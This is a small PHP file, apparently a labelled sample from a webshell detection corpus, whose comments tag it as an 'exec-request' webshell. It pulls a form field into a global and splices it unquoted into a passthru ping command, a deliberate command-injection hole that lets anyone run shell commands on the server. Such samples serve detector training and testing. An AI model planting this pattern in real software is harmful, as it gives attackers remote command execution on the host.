<?php
// Family: webshell/exec-request
// Style: register_globals-era tool with an unquoted form field and a "global" inside a function
// Trait: the form asks for field "target"; the function takes $target as a global and splices it into a command
function ping_host()
{
	global $target;
	passthru("ping -c 1 $target");
}
if ($action == "ping")
	ping_host();
echo "<form method=post><input type=text name=target><input type=hidden name=action value=ping></form>";
